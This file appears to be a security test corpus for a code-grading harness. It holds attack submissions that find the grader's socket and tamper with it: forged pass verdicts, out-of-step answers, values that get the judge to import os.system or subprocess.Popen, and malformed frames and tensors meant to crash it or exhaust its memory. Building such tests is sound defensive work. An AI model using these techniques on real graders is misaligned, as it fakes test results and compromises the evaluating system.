"""Speaking to the grader directly: the answer's process talks over a socket, and its code can find it."""

from tests.attacks.corpus.attack import TENSORS, Attack, plain

SPEAK = '''
import gc, json, os, socket, struct, threading, time
def channel():
    found = [one for one in gc.get_objects() if isinstance(one, socket.socket) and one.fileno() >= 0]
    return found[0] if found else None
def frame(tree, *buffers):
    text = tree if isinstance(tree, bytes) else json.dumps(tree).encode()
    sizes = [len(text), *map(len, buffers)]
    return struct.pack(f"<I{len(sizes)}Q", len(sizes), *sizes) + text + b"".join(buffers)
def say(tree, *buffers):
    if channel() is not None:
        channel().sendall(frame(tree, *buffers))
def answers(kinds, reply):
    """Answer requests of these kinds with what this function of the request gives: a tree and buffers."""
    for one in gc.get_objects():
        if type(one).__name__ == "_Answer":
            usual = one._reply
            def _reply(message, received, usual=usual):
                return reply(message) if message.get("do") in kinds else usual(message, received)
            one._reply = _reply
def instead(kind, tree, *buffers):
    answers([kind], lambda message: (tree, list(buffers)))
def in_turn(kinds, trees, *buffers):
    turn = iter(trees * 50)
    answers(kinds, lambda message: (next(turn), list(buffers)))
'''


def replies(name: str, tries: str, gains: str, code: str, **more: object) -> Attack:
    """Runs this code, which answers in the grader's own language, before the first test."""
    answers = {"total": plain(code) + "\ndef total(numbers):\n    return 0"}
    if more.get("assignment") == TENSORS:
        answers = {"double": plain(code) + "\ndef double(x):\n    return 0"}
    return Attack(name, tries, gains, answers=answers, first=SPEAK, **more)


ATTACKS = [
    Attack(
        "forged-verdicts",
        "sends the messages by which a judge says that a cell has ended well",
        "points without a test",
        answers={
            "total": """
                def total(numbers):
                    for index in range(60):
                        say({'begin': index})
                        say({'end': index, 'outputs': [], 'error': None, 'value': 2.0})
                    say({'done': True})
                    return 0
            """,
        },
        first=SPEAK,
    ),
    Attack(
        "answers-ahead",
        "sends answers before it is asked, so that every later one is out of step",
        "a test that takes one answer for another",
        answers={
            "square": """
                def square(x):
                    for value in (9, 16, 25, True, True):
                        say({'result': value})
                    return 0
            """,
            "twice": """
                def twice(function, x):
                    for _ in range(20):
                        say({'result': True})
                    return 0
            """,
        },
        first=SPEAK,
        deserved=2.0,  # it says what the squares are: out of step, and right
    ),
    Attack(
        "calls-what-it-was-not-given",
        "asks the judge to call functions by number: those of other tests, and some that never were",
        "the judge's own functions, run by the student",
        answers={
            "twice": """
                def twice(function, x):
                    function(3), function(10)
                    for number in [*range(-5, 50), None, 'print', 1.5, True]:
                        say({'callback': number, 'value': ['list', [['list', []], ['dict', []]]]})
                    return 0
            """,
        },
        first=SPEAK,
    ),
    Attack(
        "callback-storm",
        "calls the test's function for ever",
        "a judge that is busy until the run is over",
        answers={
            "twice": """
            def twice(function, x):
                while True:
                    function(3)
        """
        },
    ),
    replies(
        "names-classes",
        "answers with the names of classes and functions, for the judge to import",
        "code of its choice in the judging process",
        """
            instead('get', {'result': ['class', 'os.system']})
            in_turn(['call'], [{'result': tree} for tree in (
                ['class', 'subprocess.Popen'], ['class', 'builtins.eval'], ['function', 'os.system'],
                ['function', 'torch.nn.functional.__builtins__'], ['module', 'torch.hub.load', []],
                ['module', 'builtins.type', []], ['class', 'torch.nn.modules.module.importlib'])])
        """,
    ),
    replies(
        "poisoned-module",
        "answers with a layer of torch whose forward, or parameters, are its own",
        "a judge that calls the student's code as if it were a library's",
        """
            def proxy(number):
                return ['mine', number, 'function', 'x', '']
            empty = ['dict', []]
            def linear(**more):
                usual = {'training': True, '_parameters': empty, '_buffers': empty, '_modules': empty}
                return {'result': ['module', 'torch.nn.modules.linear.Linear', [*{**usual, **more}.items()]]}
            in_turn(['call'], [
                linear(forward=proxy(1)), linear(__class__=proxy(1)), linear(_call_impl=proxy(1)),
                linear(_parameters=proxy(1)), linear(_modules=['dict', [['a', proxy(1)]]]),
                linear(weight=proxy(1)),
                linear(forward=['function', 'torch.nn.functional.relu']), linear(_forward_hooks=empty)])
        """,
        assignment=TENSORS,
    ),
    replies(
        "odd-values",
        "answers with values that no encoder makes: named tuples with odd names, sizes, integers, depths",
        "an error in the judge, for which nobody is scored",
        """
            odd = [
                ['named', 'A(object): pass\\nimport os', ['a'], [1]],
                ['named', 'A', ['__class__', 'a a'], [1, 2]],
                ['size', [-1, 2**62]], ['int', 'f' * 99_999], ['int', 7],
                ['dtype', 'nn'], ['device', 'meta:9'],
                ['range', [1, 'a', None]], ['again', 7], ['back', 99], ['yours', -1], ['mine', 'x', 1, 2],
                ['dict', [[['list', []], 1]]], ['set', [['list', []]]], ['generator', 0],
                ['array', '|O', [1], 0],
                ['array', '<f8', [-1, 2**40], 0], ['_data', 0], ['list'], [], {}, [[[[]]]], ['__init__', 1],
                ['complex', 'a', 2], ['scalar', '|b1', [], 0],
                ['shared', 1, ['list', []]], ['optimizer', 'x', []]]
            in_turn(['call', 'get', 'attribute'], [{'result': tree} for tree in odd], b'\\xff' * 5056)
        """,
    ),
    replies(
        "odd-tensors",
        "answers with tensors whose shape, strides and data do not fit, or overlap",
        "memory of the judge, or its end",
        """
            def tensor(dtype, shape, strides, flags={}):
                return {'result': ['tensor', dtype, shape, strides, 0, flags], 'call': 1}
            in_turn(['call', 'attribute'], [
                tensor('float32', [2, 2], [-1, 1]), tensor('float32', [10**9], [10**9]),
                tensor('float32', [2**33], [0]), tensor('float32', [0, 2**62, 2**62], [1, 1, 1]),
                tensor('bool', [32], [1]), tensor('quint8', [8], [1]), tensor('bits16', [8], [1]),
                tensor('float32', [2**31, 2**31], [0, 0]), tensor('float32', ['a'], [1]),
                tensor('int64', [1], [1], {'grad': True, 'parameter': True}),
                tensor('float32', [2], [1], {'gradient': ['tensor', 'float32', [3], [1], 0, {}]})],
                b'\\x02' * 32)
        """,
        assignment=TENSORS,
    ),
    replies(
        "odd-replies",
        "answers with messages that lack what they must have, or say it in the wrong kind",
        "an error in the judge, for which nobody is scored",
        """
            in_turn(['run', 'get', 'names', 'call', 'attribute', 'special', 'backward', 'set'], [
                {}, [], 7, None, {'raised': 7}, {'raised': {'name': '\\x00', 'base': 'open'}}, {'there': 5},
                {'raised': {'base': 'SystemExit'}}, {'result': ['list', [1, 2, 3]]}, {'refused': {}},
                {'call': 'x'},
                {'raised': {'name': 'UnicodeDecodeError', 'base': 'UnicodeDecodeError'}}, {'error': ['x']},
                {'raised': {'name': '\\ud800', 'base': 'KeyError', 'cause': {'cause': 7}}}, {'callback': {}},
                {'outputs': [{'output_type': 'stream', 'text': {}}, 7, None], 'error': [None]},
                {'result': 1, 'changed': [[2, 7]]}, {'result': 1, 'changed': 7},
                {'result': 1, 'changed': [7]},
                {'result': 1, 'twins': [[1, 2], 3]}, {'result': 1, 'twins': {'a': 1}}, {'tampered': {}}])
        """,
    ),
    replies(
        "one-word-of-an-error",
        "reports a cell's error as a list of one word, and names as a number",
        "an error in the supervisor, for which nobody is scored",
        """
            instead('run', {'outputs': [], 'error': ['x'], 'value': {}})
            instead('names', {'there': 5})
        """,
    ),
    replies(
        "endless-frames",
        "sends frames that announce more than they hold, and some that never end",
        "a judge that waits, or that runs out of memory",
        """
            def total_(numbers): pass
            if channel() is not None:
                channel().sendall(struct.pack('<I2Q', 2, 100, 2**40))
                channel().sendall(struct.pack('<I', 2**31) + b'x' * 10_000)
        """,
    ),
    replies(
        "half-a-frame",
        "sends the beginning of a frame and then nothing",
        "a judge that waits for the rest",
        """
            if channel() is not None:
                channel().sendall(struct.pack('<IQ', 1, 1000) + b'{')
        """,
    ),
    replies(
        "vast-frames",
        "answers a cell with hundreds of megabytes of outputs, in millions of small parts",
        "memory of the judge and of the program that grades everybody",
        """
            sent = []
            def once(message):
                sent.append(message)
                return {'outputs': [[]] * 8_000_000 if len(sent) < 2 else [], 'error': None}, []
            answers(['run'], once)
        """,
    ),
    Attack(
        "deep-outputs",
        "displays data nested deeper than a notebook can be written",
        "an error in the supervisor, for which nobody is scored",
        first="""
            from IPython.display import display
            deep = {}
            for _ in range(700):
                deep = {'a': deep}
            display({'application/json': deep, 'text/plain': 'deep'}, raw=True)
            display({'application/json': [deep] * 3, 'image/png': {'a': 1}, 'x' * 3000: 7}, raw=True)
        """,
    ),
    Attack(
        "threads-that-answer",
        "leaves threads behind that read the judge's questions and answer them",
        "answers of a thread that runs while others are tested",
        answers={
            "total": """
                def answers():
                    while True:
                        say({'result': True})
                        time.sleep(0.02)
                threading.Thread(target=answers, daemon=True).start()
                def total(numbers):
                    return 0
            """,
        },
        first=SPEAK,
    ),
    Attack(
        "two-processes-answer",
        "forks while it is tested: two processes come back and both answer",
        "a judge that takes the answer it likes",
        answers={
            "total": """
                import os
                def total(numbers):
                    os.fork()
                    return 0
            """,
            "square": """
                def square(x):
                    return 0
            """,
        },
    ),
    Attack(
        "passes-descriptors",
        "sends open files along with its answer",
        "a judge that keeps them and runs out, or reads them",
        first=SPEAK,
        answers={
            "total": """
                def total(numbers):
                    connection = channel()
                    if connection is not None:
                        files = [os.open('/dev/null', 0) for _ in range(200)]
                        socket.send_fds(connection, [frame({'result': 0})], files)
                    return 0
            """,
        },
    ),
    replies(
        "shares-an-argument",
        "says that the tensor it was passed is shared from now on, and sends other contents every time",
        "inputs that are zero, in this test and in all later ones on the same tensor",
        """
            zeros = ['tensor', 'float32', [4, 6], [6, 1], 0, {}]
            calls = iter(range(1000))
            def reply(message):
                if next(calls) == 0:
                    return {'changed': [[2, ['shared', 900, zeros]]], 'result': zeros}, [bytes(96)]
                return {'result': zeros, 'twins': [[900, zeros]]}, [bytes(96)]
            answers(['call'], reply)
        """,
        assignment=TENSORS,
        deserved=0.5,
    ),
    Attack(
        "learns-from-being-restarted",
        "ends its process whenever a test asks, keeping in files what it was asked",
        "an oracle: the same test again, known in advance",
        answers={
            "mean": """
                import os, pathlib
                notes = [pathlib.Path(folder, 'asked') for folder in ('/tmp', '/dev/shm')]
                def mean(numbers):
                    for note in notes:
                        if note.exists():
                            return 3
                        note.write_text(repr(numbers))
                    os._exit(0)
            """,
        },
    ),
]
